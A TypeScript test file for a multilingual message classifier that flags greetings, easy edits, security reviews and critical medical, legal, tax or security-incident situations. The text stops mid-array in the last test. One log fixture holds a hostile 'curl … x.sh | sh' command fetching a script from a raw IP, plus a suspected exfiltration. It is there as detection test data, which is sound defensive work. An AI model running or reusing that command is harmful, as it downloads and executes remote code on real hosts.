import type { Combined } from './combine';
import type { RoutingCategory } from './routing.types';
import { applyTaskCues, detectTaskCues, withTelemetryTriage } from './task-cues';

const category = (key: string, tier: RoutingCategory['tier']): RoutingCategory => ({
  key,
  name: key,
  tier,
  description: '',
  examples: [],
});
const CATEGORIES = new Map(
  [
    category('smalltalk', 'minimal'),
    category('chat_title', 'micro'),
    category('system_design', 'advanced'),
    category('medical', 'critical'),
  ].map((entry) => [entry.key, entry]),
);
const decision = (overrides: Partial<Combined>): Combined => ({
  category: 'system_design',
  confidence: 0.3,
  tier: 'advanced',
  source: 'local_classifier',
  domain: null,
  overrides: [],
  alternatives: [],
  ...overrides,
});

describe('task cues', () => {
  it.each([
    'Hey, thanks a lot!',
    'Danke dir, hat geklappt 🙂',
    'Merci, bonne soirée !',
    '¡Muchas gracias!',
    'Grazie, perfetto!',
    'Bedankt!',
    'Dzięki!',
    '¡Muchas gracias, me has salvado la tarde!',
    'Grazie mille, sei stata gentilissima',
    'Merci infiniment, tu m’as sauvé la mise',
    'Dziękuję, bardzo mi pomogłeś',
    'Thanks, that did the trick for me',
  ])('recognises the greeting or thanks %p', (text) => {
    expect(detectTaskCues(text, '')).toEqual(['greeting']);
  });

  it.each([
    'Thanks, but it still fails on Windows',
    'Danke! Kannst du noch Tests dazu schreiben',
    'Gracias, ahora tradúcelo al inglés',
    'Merci ! Et pour le fichier de config ?',
  ])('does not take thanks followed by a new request %p for a greeting', (text) => {
    expect(detectTaskCues(text, '')).not.toContain('greeting');
  });

  it('recognises chat-title tasks in the message or the system prompt', () => {
    expect(detectTaskCues('Give this conversation a short title of at most five words.', '')).toEqual([
      'chat_title',
    ]);
    expect(detectTaskCues('...', 'Erzeuge einen Titel für die folgende Unterhaltung.')).toEqual([
      'chat_title',
    ]);
    // the topic of the chat (a migration) must not make it an architecture task
    expect(
      detectTaskCues('Give this thread a title, three words max: we discussed migrating to Kubernetes.', ''),
    ).toEqual(['chat_title']);
  });

  it.each([
    `Translate into German:\n${'The shipment leaves on Monday. '.repeat(80)}`,
    `Corrige les fautes : ${'je vous est envoyé le document. '.repeat(40)}`,
    `Extrae todas las fechas de este correo: ${'nos vemos el 3 de marzo. '.repeat(40)}`,
    `Mach daraus eine Tabelle: ${'Umsatz 4,2 Mio, Vorjahr 3,9 Mio. '.repeat(30)}`,
    `Convierte estos pedidos en una tabla Markdown: ${'pedido 17, cliente Ruiz, 3 unidades. '.repeat(30)}`,
    `Zet deze gegevens om in een tabel: ${'order 17, klant De Vries, 3 stuks. '.repeat(30)}`,
    `Konwertuj tę listę na tabelę: ${'zamówienie 17, klient Nowak, 3 sztuki. '.repeat(30)}`,
    `Fass das Protokoll in drei Sätzen zusammen: ${'Herr Lange stellt den Zeitplan vor. '.repeat(30)}`,
    `Bitte nur Tipp- und Grammatikfehler korrigieren:\n\n${'Wir migrieren den Monolithen in Microservices. '.repeat(20)}`,
    `Fais-moi un résumé en trois phrases :\n\n${'La réunion a validé le budget. '.repeat(30)}`,
    `Hazme un resumen corto de este correo: ${'El pedido llega el lunes. '.repeat(30)}`,
    `Rewrite this more concisely: ${'We are at this point in time not able to confirm the date. '.repeat(3)}`,
    // the pasted text is a "review"; the instruction is still easy
    `Make a table of the figures.\n\nQuarterly business review\n${'Revenue rose 4 %, risks remain. '.repeat(20)}`,
    `Summarize this post-incident review in 100 words:\n\n${'The cache failed at 14:02. '.repeat(30)}`,
  ])('treats an easy instruction on pasted text as an easy edit', (text) => {
    expect(detectTaskCues(text, '')).toContain('easy_edit');
  });

  // Fifth round (issue 16): easy instructions asked as a polite question, with the clitic
  // imperatives of Spanish and Italian, more things to extract, tables and summaries in other
  // words, and Dutch/Polish/Italian rephrasing. Written for the test.
  it.each([
    `Could you pull out all the invoice numbers and due dates from this email?\n\n${'Invoice 4471 is due on 3 March. '.repeat(20)}`,
    `Can you translate this into Spanish?\n\n${'The warehouse closes at six on Fridays. '.repeat(20)}`,
    `List every hostname and IP address in this config, one per line:\n\n${'upstream api01.internal:8080; '.repeat(20)}`,
    `Nenne mir aus diesem Protokoll alle Termine und Fristen:\n\n${'Die Abnahme ist am 12. Juni. '.repeat(20)}`,
    `Mach mir davon eine knappe Zusammenfassung für den Chef:\n\n${'Der Umzug verzögert sich um zwei Wochen. '.repeat(20)}`,
    `Kun je deze mail wat vriendelijker formuleren? 'Ik wil vandaag nog antwoord.'`,
    `Mets-moi ces chiffres sous forme de tableau : ${'ventes 120, retours 8, marge 31 %. '.repeat(20)}`,
    `¿Me traduces este párrafo al alemán? ${'El pedido sale el lunes por la mañana. '.repeat(20)}`,
    `Ponlo en una tabla con fecha y lugar: ${'el 3 de mayo en Sevilla, el 9 en Cádiz. '.repeat(20)}`,
    `Mi correggi questo messaggio? Solo gli errori: ${'ci vediamo domani in ufficio alle nove. '.repeat(5)}`,
    `Mettili in una tabella: ${'Rossi 12 ore, Bianchi 9 ore. '.repeat(20)}`,
    `Przedstaw to w formie tabeli: ${'Kowalski 12 godzin, Nowak 9 godzin. '.repeat(20)}`,
    `Czy możesz przetłumaczyć to na angielski? ${'Spotkanie jest w czwartek o dziesiątej. '.repeat(20)}`,
  ])('treats a politely asked or reworded easy instruction as an easy edit %#', (text) => {
    expect(detectTaskCues(text, '')).toContain('easy_edit');
  });

  it.each([
    'Still too long, keep it to two sentences.',
    'Zu lang, kürz es auf drei Sätze.',
    "C'est trop long, réduis à deux phrases.",
    'Demasiado largo, acórtalo a un párrafo.',
    'Troppo lungo, riducilo a tre righe.',
    'Te lang, maak het korter.',
    'Za długie, skróć do dwóch zdań.',
  ])('treats a short request to shorten the last answer as an easy edit: %p', (text) => {
    expect(detectTaskCues(text, '', false)).toEqual(['easy_edit']);
  });

  it('keeps a proof behind "too long" as it is', () => {
    expect(detectTaskCues('Too long. Prove the bound instead of describing it.', '', false)).not.toContain(
      'easy_edit',
    );
  });

  it.each([
    'Generate short titles for chat conversations. Reply with the title only.',
    'Du erzeugst Titel für Gesprächsverläufe, höchstens fünf Wörter.',
    'Génère des titres courts pour les conversations suivantes.',
    'Genera títulos breves para conversaciones de soporte.',
  ])('recognises a chat-title system prompt with plural or compound nouns: %p', (system) => {
    expect(detectTaskCues('Nutzer: Wie exportiere ich eine Tabelle als CSV?', system)).toEqual([
      'chat_title',
    ]);
  });

  it.each([
    'Leg in begrijpelijke taal uit wat een API-sleutel is.',
    'Erklär das in einfacher Sprache: Was macht ein Load Balancer?',
    "Explique-moi en langage clair ce qu'est un VPN.",
    'Explícalo en lenguaje sencillo: ¿qué es la nube?',
    'Spiegamelo in parole povere: cosa fa un firewall?',
    'Wytłumacz po ludzku, co to jest DNS.',
    'Describe what a container is in everyday language.',
  ])('marks a request for plain language as a simple explanation: %p', (text) => {
    expect(detectTaskCues(text, '')).toContain('simple_explanation');
  });

  it('takes a short question followed only by "short answer" for a short question', () => {
    expect(detectTaskCues("What's the difference between RAM and ROM? short answer", '')).toContain(
      'short_question',
    );
    expect(detectTaskCues('Wat is het verschil tussen een VPN en een proxy? kort antwoord', '')).toContain(
      'short_question',
    );
    expect(detectTaskCues('What is a VPN? Also compare three vendors in detail.', '')).not.toContain(
      'short_question',
    );
    // "find … numbers" in a puzzle is no extraction
    expect(
      detectTaskCues('Find all prime numbers p such that p + 2 and p + 6 are prime too.', ''),
    ).not.toContain('easy_edit');
  });

  it.each([
    'A bit more casual, please.',
    'Etwas förmlicher bitte, das geht an den Vorstand.',
    'Un peu plus court, et sans les emojis.',
    'Más informal, que es para mis amigos.',
    'Rendilo un po’ più formale, per favore.',
    'Iets vriendelijker graag.',
    'Trochę krócej, proszę.',
  ])('treats a request for another tone or length as an easy edit: %p', (text) => {
    expect(detectTaskCues(text, '', false)).toEqual(['easy_edit']);
  });

  it('keeps hard work behind a style word and a request to review as it is', () => {
    expect(detectTaskCues('More formal: prove that the lock is never held twice.', '')).not.toContain(
      'easy_edit',
    );
    expect(
      detectTaskCues('Summarize and review the risks of this plan:\n\nWe ship on Monday.', ''),
    ).not.toContain('easy_edit');
  });

  it.each([
    'My 80-year-old father takes warfarin and his doctor added amiodarone; should the dose change?',
    'Meine Tochter hat 39,8 Fieber und erbricht seit Stunden, der Arzt ist nicht erreichbar.',
    'Mi hijo es diabético y tiene la glucosa en 380 mg/dl, ¿cuánta insulina le pongo?',
    'Mon employeur veut me licencier pendant mon arrêt maladie, quels sont mes droits ?',
    'Il padrone di casa mi minaccia di sfratto e ha cambiato la serratura, posso chiamare la polizia?',
    'Ik heb jaren inkomsten uit het buitenland niet in mijn aangifte gezet; krijg ik een boete van de belasting?',
    'Our AWS access key was leaked in a public repo an hour ago and there are unknown EC2 instances.',
    'Na serwerze jest podejrzany proces i wyciek danych klientów, co robić?',
    'Soy diabético tipo 1 y llevo dos días vomitando, ¿ajusto la insulina?',
    'Mia madre prende il warfarin e ha la febbre alta da ieri.',
    'Mama bierze warfarynę i ma krwawienie z nosa od godziny.',
    'Auf beiden Fileservern heißen alle Dateien seit heute Nacht .locked.',
    'I pushed our AWS secret access key to a public repo by mistake.',
    'La clave de acceso de AWS se filtró en GitHub esta mañana.',
    'Tutti i file sul server sono crittografati e chiedono un riscatto.',
  ])('flags the critical situation %p', (text) => {
    expect(detectTaskCues(text, '')).toContain('critical_domain');
  });

  // Written from domain knowledge for the multilingual lexicon (critical-lexicon.ts), not from an
  // evaluation prompt: brands and drugs per country, symptoms as people say them, the person at
  // risk, procedural words of dismissal, eviction, arrest and family law, incident tools and events.
  it.each([
    'My 82-year-old father takes Eliquis and now the dentist wants to pull a tooth. Should he pause it?',
    'How much acetaminophen can I safely give my 4 year old who weighs 16 kg?',
    'My husband has a crushing pressure in his chest and his left arm is numb',
    'Wie viele Einheiten Insulin spritze ich, wenn mein Zucker bei 320 liegt?',
    'Mein Kind hat seit drei Tagen 39,5 Grad Fieber und einen Ausschlag. Notaufnahme?',
    'Quelle dose de paracétamol pour un nourrisson de 6 kilos ?',
    'Mi hijo se ha tragado unas pastillas de hierro, ¿qué hago?',
    'Ho la pressione a 200 e mi gira la testa, devo andare al pronto soccorso?',
    'Mijn vader gebruikt bloedverdunners en is gevallen. Moet hij naar de spoedeisende hulp?',
    'Moja mama bierze leki przeciwzakrzepowe i ma krwiaka na nodze, co robić?',
    'I got pulled over and charged with DUI last night, blood alcohol 0.11. What happens now?',
    'Ich habe einen Strafbefehl wegen Trunkenheit am Steuer bekommen, soll ich Einspruch einlegen?',
    'Me detuvieron por conducir bebido, ¿me quitarán el carnet?',
    'Il mio capo mi ha licenziato via WhatsApp, è valido?',
    'Mijn huisbaas wil me uit mijn huis zetten omdat hij het wil verkopen',
    'Właściciel mieszkania chce mnie eksmitować w zimie, czy może?',
    'Je n’ai pas déclaré mes revenus étrangers depuis trois ans, quelles pénalités je risque ?',
    'Non ho dichiarato i redditi esteri degli ultimi due anni, rischio sanzioni?',
    'Unser Stripe-API-Schlüssel ist in einem öffentlichen Gist aufgetaucht, was jetzt?',
    'Qualcuno ha rubato le credenziali di amministratore e ha scaricato il database clienti',
    'Ktoś wykradł dane klientów z naszej bazy, widzimy nietypowy ruch wychodzący',
    'Mimikatz was found on a domain controller this morning',
  ])('flags the critical situation in other words %p', (text) => {
    expect(detectTaskCues(text, '', false)).toContain('critical_domain');
  });

  // Fifth round (issue 16): live incidents told without an incident word — traffic or sign-ins
  // nobody recognises, forwarding rules, credentials typed into a fake page. Written for the test.
  it.each([
    'One of our laptops keeps sending outbound DNS traffic to a domain nobody here recognises, around 3 GB overnight. What should we do first?',
    "Entra flagged an impossible travel sign-in for our CFO's account (Frankfurt, then Lagos 20 minutes later). How do we respond?",
    'Someone typed their Okta password into a fake login page yesterday and approved the MFA push. What now?',
    'Unser NAS baut seit gestern ausgehende TCP-Verbindungen zu einer IP in Russland auf, die niemand kennt. Wie gehen wir vor?',
    'Im Postfach unserer Buchhaltung sind plötzlich Weiterleitungsregeln an eine Gmail-Adresse aufgetaucht, Zugangsdaten wurden vielleicht abgegriffen. Was tun?',
    'Notre serveur de paie envoie du trafic sortant chiffré vers une adresse IP inconnue toutes les cinq minutes. Que faire ?',
    'Une comptable a saisi ses identifiants sur une fausse page de connexion et des règles de transfert ont été créées. Par quoi commencer ?',
    'El servidor de nóminas abre conexiones HTTPS salientes cada minuto hacia una IP desconocida en otro país. ¿Cómo lo investigamos?',
    'Alguien introdujo sus credenciales de Microsoft 365 en una página falsa y ahora hay reglas de reenvío raras en su buzón. ¿Qué hacemos?',
    'Il nostro server di backup genera traffico in uscita verso un indirizzo IP sconosciuto ogni notte. Come procediamo?',
    'Un collega ha inserito le credenziali su una pagina falsa e ora ci sono regole di inoltro strane nella sua casella. Cosa facciamo?',
    'Onze buildserver maakt sinds zaterdag uitgaande verbindingen naar een onbekend IP-adres in het buitenland. Hoe pakken we dit aan?',
    'Een collega heeft zijn inloggegevens op een nep-inlogpagina ingevuld en er staan nu vreemde doorstuurregels in zijn mailbox. Wat nu?',
    'Nasz serwer plików od soboty nawiązuje połączenia wychodzące do nieznanego adresu IP za granicą. Co robić?',
    'Księgowa wpisała dane logowania na fałszywej stronie i w jej skrzynce pojawiły się dziwne reguły przekierowania. Od czego zacząć?',
  ])('flags a live incident told without an incident word %p', (text) => {
    expect(detectTaskCues(text, '', false)).toContain('critical_domain');
  });

  // Fifth round, second part (issue 16): a business's taxes named or abbreviated, a fraud victim's
  // money, sign-ins from abroad with changed bank details or a regulator to notify. Written for the test.
  it.each([
    'Lohnt sich für mich als Freiberufler mit 90 k€ Gewinn eine GmbH wegen KSt und GewSt statt Einkommensteuer?',
    'As a contractor earning £95k, would a limited company save me income tax and corporation tax overall?',
    'Is een bv voordeliger dan een eenmanszaak qua inkomstenbelasting en vennootschapsbelasting bij 100k winst?',
    'Soy autónomo con 70.000 € de beneficio: ¿me conviene una SL por el IRPF frente al impuesto sobre sociedades?',
    'Con 80 mila euro di utile mi conviene una SRL tra IRPEF e IRES?',
    'Czy przy 300 tys. zł przychodu opłaca mi się ryczałt zamiast podatku liniowego?',
    'Someone pretending to be my bank talked me into moving my savings to a safe account. The money is gone.',
    'Ein angeblicher Bankmitarbeiter hat mich überredet, meine Ersparnisse auf ein sicheres Konto zu überweisen.',
    "Un faux conseiller m'a fait virer mes économies sur un compte sécurisé, je crois que c'est une arnaque.",
    'Me llamaron del banco y pasé mis ahorros a una cuenta segura; creo que es una estafa.',
    'Ho spostato i miei risparmi su un conto sicuro su indicazione di un finto operatore: è una truffa?',
    'Een nep-bankmedewerker liet me mijn spaargeld naar een veilige rekening overmaken.',
    'Fałszywy konsultant kazał mi przelać moje oszczędności na bezpieczne konto. To oszustwo?',
    "A supplier says we paid their invoice to new bank details sent from our CFO's mailbox, and we saw sign-ins from abroad.",
    'Jemand hat sich aus dem Ausland ins Administrator-Konto unseres Shops eingeloggt und die Bankverbindung in den Rechnungen geändert. Was müssen wir nach DSGVO melden?',
    "Des connexions depuis l'étranger sur le compte administrateur, et un nouveau RIB dans nos factures : faut-il prévenir la CNIL ?",
    'Alguien entró desde el extranjero en la cuenta de administrador y cambió los datos bancarios de las facturas. ¿Avisamos a la AEPD?',
    "Un amministratore ha notato accessi dall'estero e un nuovo IBAN nelle fatture inviate ai clienti.",
    'Iemand heeft vanuit het buitenland ingelogd als beheerder en het rekeningnummer op onze facturen aangepast.',
    'Ktoś z zagranicy zalogował się na konto administratora i podmienił numer konta na fakturach. Zgłaszamy to do UODO?',
  ])('flags the critical situation %p (fifth round)', (text) => {
    expect(detectTaskCues(text, '', false)).toContain('critical_domain');
  });

  it.each([
    'Write an article about common phone scams for our newsletter.',
    'How do banks detect card fraud with machine learning?',
    'How do I change the IBAN on my invoice template in Excel?',
    "I'm travelling, how do I log in from another country to our VPN?",
  ])('does not take one fraud, bank or travel word for a situation %p', (text) => {
    expect(detectTaskCues(text, '', false)).not.toContain('critical_domain');
  });

  it.each([
    'Go through our Kubernetes RBAC and tell me whether any service account could escalate privileges to cluster-admin.',
    'Prüf unsere IAM-Rollen auf Rechteausweitung: kann sich ein Entwickler Admin-Rechte geben?',
    'Analyse ces règles sudoers : y a-t-il une élévation de privilèges possible ?',
    '¿Ves alguna escalada de privilegios en esta configuración de IAM?',
    "C'è un rischio di escalation dei privilegi in questa policy?",
    'Wat is het aanvalsoppervlak van deze API-gateway?',
    'Czy w tej konfiguracji jest możliwa eskalacja uprawnień?',
    'Faites un audit de sécurité de ce module.',
  ])('takes a privilege-escalation or attack-surface question for a security review %p', (text) => {
    expect(detectTaskCues(text, '', false)).toContain('security_review');
  });

  // Fifth round (issue 16): concurrency bugs, assistants deployed with a page of rules, and a
  // security-operations assistant reading its tool's telemetry. Written for the test.
  it.each([
    'Our checkout sometimes charges twice when two requests for the same cart arrive in parallel. Find the cause.',
    'Der Integrationstest schlägt sporadisch fehl, wenn die Jobs gleichzeitig laufen: am Ende fehlen Buchungen.',
    'Onze test faalt soms als de workers tegelijk draaien; het saldo klopt dan niet.',
    'Mon compteur Redis perd parfois des incréments quand plusieurs workers écrivent en parallèle. Pourquoi ?',
    'El inventario a veces queda negativo cuando dos pedidos llegan en paralelo. ¿Qué pasa?',
    'Il servizio a volte restituisce saldi sbagliati con richieste in parallelo, come lo sistemo?',
    'Test czasami nie przechodzi, gdy dwa procesy zapisują jednocześnie do tej samej tabeli.',
    'We get a deadlock between the order service and the billing job about once a day, here are both transactions and the lock graph.',
  ])('recognises a concurrency bug %p', (text) => {
    expect(detectTaskCues(text, '')).toContain('concurrency');
  });

  it.each([
    'What is a race condition? short answer',
    'Run the test suite in parallel to make it faster.',
    'Sometimes I forget my password, how do I reset it?',
  ])('does not take a definition or one of the words for a concurrency bug %p', (text) => {
    expect(detectTaskCues(text, '')).not.toContain('concurrency');
  });

  it('floors a long request to an assistant deployed with a page of rules at low', () => {
    const policy = `You are the support assistant of a bike shop. Rules:\n${'- Refunds only within 30 days, unused items only.\n'.repeat(15)}`;
    const complaint =
      'My order came two weeks late, the front wheel is bent and the lights are missing. I paid for express delivery and I need the bike for a race on Sunday. What can you do for me, and can I keep the bike while the parts are replaced?';
    expect(detectTaskCues(complaint, policy)).toContain('real_work');
    expect(detectTaskCues('Where is my order 1234567890?', policy)).not.toContain('real_work');
  });

  it.each([
    'Can you look over my pull request before I merge it? Review this diff:\n```diff\n- a\n+ b\n```',
    'Kannst du mal über mein Skript drüberschauen? Code-Review bitte, vor allem Fehlerbehandlung.',
    'Bitte schau dir die Methode an und mach ein Code-Review, ich bin unsicher.',
    'Tu peux faire une revue de code de ma classe PHP ? Surtout la lisibilité.',
    'Revisa mi código de Python y dime qué mejorarías, por favor.',
    'Puoi fare una revisione del codice di questo modulo Go? Soprattutto i nomi.',
    'Kun je deze functie reviewen? Ik twijfel over de foutafhandeling.',
    'Zrób przegląd kodu tej klasy w Javie, głównie czytelność.',
    'Zrób review tej funkcji, proszę.',
  ])('marks a code review as real work: %p', (text) => {
    expect(detectTaskCues(text, '')).toContain('real_work');
  });

  it.each([
    'Write a review of the new Italian restaurant on Main Street for our blog.',
    'Fasse das Review-Meeting von gestern in drei Sätzen zusammen.',
  ])('does not take other reviews for a code review: %p', (text) => {
    expect(detectTaskCues(text, '')).not.toContain('real_work');
  });

  it('holds a code review at low against a cap to minimal', () => {
    const capped = decision({ tier: 'minimal', confidence: 0.2 });
    const cues = detectTaskCues('Kannst du diese Funktion reviewen? Danke!', '');
    expect(applyTaskCues(capped, cues, CATEGORIES).tier).toBe('low');
  });

  it('treats a security-operations assistant reading its tool result as a critical situation', () => {
    for (const system of [
      'You are the SOC assistant of a law firm. You can query the SIEM.',
      'Du unterstützt das Incident-Response-Team und kannst Protokolle abfragen.',
      "Tu assistes l'équipe de réponse aux incidents et peux interroger le SIEM.",
      'Eres el asistente de respuesta a incidentes y puedes consultar el SIEM.',
    ]) {
      expect(withTelemetryTriage([], system, true)).toContain('critical_domain');
      expect(withTelemetryTriage([], system, false)).not.toContain('critical_domain');
    }
    expect(withTelemetryTriage([], 'You are a helpful coding assistant with a shell tool.', true)).toEqual(
      [],
    );
    expect(withTelemetryTriage(['easy_edit'], 'You are the SOC assistant.', true)).toEqual(['easy_edit']);
  });

  it.each([
    'Which year did the contract start? Just the year, nothing else.',
    'In welchem Jahr wurde die Firma gegründet? Nur die Jahreszahl, sonst nichts.',
    'Welke versie is de laatste? Alleen het nummer, verder niets.',
    "Quelle est la capitale de l'Australie ? Juste le nom, rien d'autre.",
    '¿Cuántos empleados tiene? Solo el número, nada más.',
    "Chi ha firmato il verbale? Solo il nome, nient'altro.",
    'Ile osób było na spotkaniu? Tylko liczba, nic więcej.',
  ])('marks a request for a one-word answer: %p', (text) => {
    expect(detectTaskCues(text, '')).toContain('terse_answer');
  });

  it('caps a one-word answer at low, below the floor of a critical situation', () => {
    expect(applyTaskCues(decision({}), ['terse_answer'], CATEGORIES).tier).toBe('low');
    const text =
      'My 2-year-old swallowed ibuprofen tablets, how much is dangerous? Just the number, nothing else.';
    const cues = detectTaskCues(text, '');
    expect(cues).toEqual(expect.arrayContaining(['critical_domain', 'terse_answer']));
    expect(applyTaskCues(decision({}), cues, CATEGORIES).tier).toBe('high');
  });

  it.each([
    'Write an nginx config that blocks outbound connections except to our API.',
    'How do I set up forwarding rules in Outlook?',
    'Explain how exfiltration over DNS works for my security class.',
    'What does MFA stand for?',
    "Let's play: you're a detective in 1940s Los Angeles and I'm the suspect. Begin the interrogation.",
  ])('does not take security or police vocabulary alone for an incident %p', (text) => {
    expect(detectTaskCues(text, '', false)).not.toContain('critical_domain');
  });

  // A follow-up keeps the critical situation of the earlier user turn when it names the same
  // domain itself (one hit of the same list); a new, unrelated request does not.
  it.each([
    [
      'I rear-ended someone at a red light and drove off in a panic; a police officer left me a note today.',
      'Should I call them back myself or through a lawyer?',
    ],
    [
      'Die Polizei hat mir eine Vorladung wegen Unfallflucht geschickt, ich habe beim Ausparken wohl ein Auto gestreift.',
      'Muss ich da hin oder erst zum Anwalt?',
    ],
    [
      'Ik ben na een aanrijding doorgereden en nu wil de politie me spreken.',
      'Moet ik eerst een advocaat bellen?',
    ],
    [
      "Les gendarmes m'ont convoqué pour un délit de fuite sur un parking.",
      'Je dois y aller seul ou avec un avocat ?',
    ],
    [
      'La guardia civil me ha llamado por un golpe en un aparcamiento del que me fui sin darme cuenta.',
      '¿Tengo que ir a declarar o primero hablo con un abogado?',
    ],
    [
      "Ho urtato un'auto nel parcheggio e sono andato via, ora i carabinieri mi cercano per omissione di soccorso.",
      'Devo presentarmi da solo o con un avvocato?',
    ],
    [
      'Policjant zostawił wezwanie, podobno uciekłem z miejsca kolizji na parkingu.',
      'Czy muszę iść sam, czy najpierw do adwokata?',
    ],
    ['Mein Vater nimmt Marcumar und ist heute Morgen gestürzt.', 'Soll er trotzdem seine Tabletten nehmen?'],
    [
      'We think the admin password of our ERP was stolen last week.',
      'Which logs should we pull first to see what the attacker did?',
    ],
  ])('keeps the critical situation of the earlier turn in the follow-up %p → %p', (earlier, followUp) => {
    expect(detectTaskCues(followUp, '', false)).not.toContain('critical_domain');
    expect(detectTaskCues(followUp, '', false, earlier)).toContain('critical_domain');
  });

  // A follow-up without a word of its own still keeps the situation ("OK, done. Can we close the
  // topic now?"), unless it says it changes the subject; an easy edit stays capped.
  it.each([
    ['Mein Vater nimmt Marcumar und ist heute Morgen gestürzt.', 'Okay. Und was mache ich jetzt?'],
    [
      'Our AWS access key was leaked in a public repo an hour ago.',
      'Done, rotated it. I think we can close this now, right?',
    ],
    [
      'Ce matin, notre DG a reçu un mail de phishing et ses identifiants ont fuité.',
      "C'est réglé, je peux considérer l'affaire terminée ?",
    ],
    ['Me detuvieron por conducir bebido anoche.', '¿Y qué pasa si no me presento?'],
    ['Wczoraj ktoś wykradł dane klientów z naszej bazy.', 'Dobra, to co teraz?'],
  ])('keeps the critical situation of the earlier turn in a bare follow-up %p → %p', (earlier, followUp) => {
    expect(detectTaskCues(followUp, '', false, earlier)).toContain('critical_domain');
  });

  it('does not carry a critical situation into a new subject, and keeps an easy edit capped', () => {
    expect(
      detectTaskCues(
        'Now unrelated: write me a haiku about autumn leaves.',
        '',
        false,
        'My mother takes warfarin and fell this morning.',
      ),
    ).not.toContain('critical_domain');
    expect(
      detectTaskCues(
        'Andere Frage: wie koche ich Reis?',
        '',
        false,
        'Mein Vater nimmt Marcumar und ist gestürzt.',
      ),
    ).not.toContain('critical_domain');
    expect(
      detectTaskCues(
        'Thanks! Can you translate this sentence into French: the meeting is on Monday.',
        '',
        false,
        'Our AWS access key was leaked in a public repo an hour ago.',
      ),
    ).toContain('easy_edit');
  });

  it.each([
    'Wie funktioniert eine Steuererklärung grundsätzlich?',
    'What does a pharmacist do?',
    'Wie viele Kilo Mehl brauche ich für 3 Brote?',
    'Explain how ransomware works in general terms for a school talk',
    'Spiel bitte einen genervten Vermieter, ich übe ein schwieriges Gespräch.',
    'My boss says our deploy process is a pain',
    'Give me a workout plan to lose 5 kilos',
  ])('does not take a general question in a critical field for a situation %p', (text) => {
    expect(detectTaskCues(text, '', false)).not.toContain('critical_domain');
  });

  describe('a pasted document', () => {
    const lab = [
      'LABORATORY REPORT',
      'Patient: J. Smith, 71 years',
      'Medication: warfarin 5 mg daily, metoprolol 50 mg',
      'INR 3.9 (target 2.0-3.0), creatinine 1.8 mg/dL, eGFR 38, potassium 5.4 mmol/L',
      'Haemoglobin 11.2 g/dL. Platelets 180. The patient reports bruising and one nosebleed this week.',
      'Comment: INR above therapeutic range; review anticoagulant dose with the prescribing physician. Renal function reduced, consider dose adjustment of renally cleared drugs.',
    ].join('\n');
    const report = `${lab}\n${lab.replace('LABORATORY REPORT', 'PREVIOUS REPORT (October)')}`;
    const contract = [
      'MASTER SERVICES AGREEMENT',
      '9.1 Neither party shall be liable for indirect or consequential damages, including loss of profits.',
      "9.2 The Provider's total liability under this Agreement shall not exceed the fees paid in the twelve months before the claim.",
      '10.1 Either party may terminate this Agreement for material breach not cured within 30 days of written notice.',
      '10.2 On termination the Customer shall pay all outstanding invoices within 14 days. Disputes are subject to the exclusive jurisdiction of the courts of England and Wales; governing law: English law. Any claim must be brought within one year.',
      '11. The landlord may terminate the lease and start eviction proceedings if the tenant fails to pay rent for two months; the tenant may sue for damages in court and claim compensation.',
    ].join('\n');
    const entry =
      'Dec 07 02:12:40 web01 sudo: deploy : COMMAND=/bin/bash -c curl http://185.220.101.4/x.sh | sh\nDec 07 02:13:02 web01 kernel: outbound connection to 185.220.101.4:4444 established\nDec 07 02:20:19 web01 app: 48,000 customer records exported to /tmp/dump.csv, unknown process exfiltration suspected, ransomware note found in /var/www';
    const log = `${entry}\n${entry}\n${entry}`;

    it.each([
      `Make a table of the values in this report.\n\n${report}`,
      `Mach mir eine Tabelle mit allen Werten.\n\n${report}`,
      `${contract}\n\nMake a table of all deadlines in this contract.`,
      `Rewrite this as a short FAQ for new staff (6–8 questions), simple language.\n\n${contract}`,
      `Put the timestamps and IPs of this log into a table.\n\n${log}`,
    ])('is judged by its instruction when that asks for an easy transformation %#', (text) => {
      expect(detectTaskCues(text, '', false)).not.toContain('critical_domain');
    });

    it.each([
      `Here is my lab report.\n\n${report}\n\nShould I change my dose?`,
      `${report}\n\nShould I change my dose?`,
      `Hier mein Laborbefund:\n\n${report}\n\nSoll ich die Dosis ändern?`,
      `Make a table of the values and tell me whether I should change my dose.\n\n${report}`,
      `Make a table of the values in this report.\n\n${report}\n\nIs this something to worry about?`,
      `${contract}\n\nIs this clause enforceable against us?`,
      `${contract}\n\nCette clause est-elle opposable à nous ?`,
      `${contract}\n\n¿Esta cláusula es válida contra nosotros?`,
      `${contract}\n\nQuesta clausola è valida contro di noi?`,
      `${contract}\n\nIs deze clausule afdwingbaar tegen ons?`,
      `${contract}\n\nCzy ta klauzula jest wiążąca dla nas?`,
      `Translate this and flag the risks for us.\n\n${contract}`,
      `${log}\n\nWhat does this log say about the breach?`,
    ])('stays critical when its instruction asks for judgement %#', (text) => {
      expect(detectTaskCues(text, '', false)).toContain('critical_domain');
    });
  });

  it('does not flag ordinary code or ops work as critical', () => {
    expect(
      detectTaskCues('Write a runbook for restarting the Postgres replica after a failover.', ''),
    ).not.toContain('critical_domain');
    expect(
      detectTaskCues('Add a tax column to the invoice table and round to two decimals.', ''),
    ).not.toContain('critical_domain');
    expect(detectTaskCues('How do I configure the AWS CLI with my access key?', '')).not.toContain(
      'critical_domain',
    );
    expect(
      detectTaskCues('I encrypted the backup on the file server with gpg; how do I restore it?', ''),
    ).not.toContain('critical_domain');
  });

  it('reads hyphenated and camel-cased spellings of the cue phrases', () => {
    expect(detectTaskCues('Bitte ein Security-Review für dieses Modul.', '')).toContain('security_review');
    expect(detectTaskCues('Threat-model the checkout flow.', '')).toContain('security_review');
    expect(detectTaskCues('Does MutualExclusion hold in this spec?', '')).toContain('formal_proof');
    expect(detectTaskCues('Plan a zero-downtime cut-over.', '')).toContain('architecture');
  });

  it('recognises proofs, formal verification and architecture work', () => {
    expect(
      detectTaskCues('Find a loop invariant for this binary search and prove termination.', ''),
    ).toContain('formal_proof');
    expect(detectTaskCues('Udowodnij, że ten graf ma cykl Hamiltona.', '')).toContain('proof_request');
    expect(detectTaskCues('Please proofread my cover letter.', '')).not.toContain('proof_request');
    expect(detectTaskCues('How should we migrate our monolith to services without downtime?', '')).toContain(
      'architecture',
    );
  });

  it.each([
    'How does public-key crypto work? Explain it simply, I am a teacher.',
    'Erklär mir einfach, was ein Index in einer Datenbank macht.',
    'Qu’est-ce que Kubernetes ? En termes simples, je suis comptable.',
    'Explícame de forma sencilla qué es una API.',
    'Spiegami in parole semplici cosa fa Docker.',
    'Leg me eenvoudig uit wat een VPN doet.',
    'Wyjaśnij prostymi słowami, czym jest blockchain.',
